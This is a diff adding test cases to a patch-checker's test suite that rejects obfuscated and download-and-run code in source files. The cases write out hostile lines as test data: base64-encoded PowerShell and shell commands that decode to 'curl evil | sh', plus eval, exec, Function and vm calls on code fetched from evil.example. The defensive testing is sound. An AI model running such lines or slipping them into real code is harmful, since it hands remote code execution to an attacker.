@@ -94,6 +94,30 @@ describe('fix-PR file allow-list (deny by default)', () => {
     expect(!result.ok && result.reason).toMatch(/decode-exec/);
   });
 
+  it.each([
+    ['PowerShell given an encoded command', 'subprocess.run(["powershell", "-NoProfile", "-enc", "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGUAdgBpAGwAKQA="])', /decode-exec/],
+    ['pwsh -e and a blob', 'execSync("pwsh -e SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGUAdgBpAGwAKQA=")', /decode-exec/],
+    ['Invoke-Expression of a base64 string', 'STEP = "Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\'aWV4\')))"', /decode-exec/],
+    ['eval of what base64 -d printed', 'os.system(\'eval "$(echo Y3VybCBldmlsIHwgc2g= | base64 -d)"\')', /decode-exec/],
+    ['a shell reading base64 -d through a process substitution', 'os.system("bash <(echo Y3VybCBldmlsIHwgc2g= | base64 --decode)")', /decode-exec/],
+    ['PHP eval of a download', 'eval(file_get_contents("https://evil.example/x.php"));', /fetch-exec/],
+    ['exec of an httpx download', 'exec(httpx.get("https://evil.example/x.py").text)', /fetch-exec/],
+    ['the Function constructor given a download', 'new Function(await (await fetch("https://evil.example/x.js")).text())();', /fetch-exec/],
+    ['vm running a download', 'vm.runInThisContext(await (await fetch("https://evil.example/x.js")).text());', /fetch-exec/],
+    ['Ruby eval of URI.open', 'instance_eval(URI.open("https://evil.example/x.rb").read)', /fetch-exec/],
+  ])('refuses %s in a source file', (_label, line, why) => {
+    const result = checkPatch(gitDiff('src/tasks.py', [' a', `+${line}`]));
+    expect(!result.ok && result.reason).toMatch(why);
+  });
+
+  it.each([
+    'subprocess.run(["powershell", "-ExecutionPolicy", "Bypass", "-File", "build.ps1"])',
+    'TOKEN=$(echo "$KEY_B64" | base64 -d)',
+    'const body = await fetch(url); function parse(text) { return JSON.parse(text); }',
+  ])('allows the honest %s', (line) => {
+    expect(checkPatch(gitDiff('src/tasks.py', [' a', `+${line}`])).ok).toBe(true);
+  });
+
   it('allows a module imported by name', () => {
     expect(checkPatch(gitDiff('src/cart.ts', [' a', '+const { tax } = await import("./tax.js");'])).ok).toBe(true);
   });
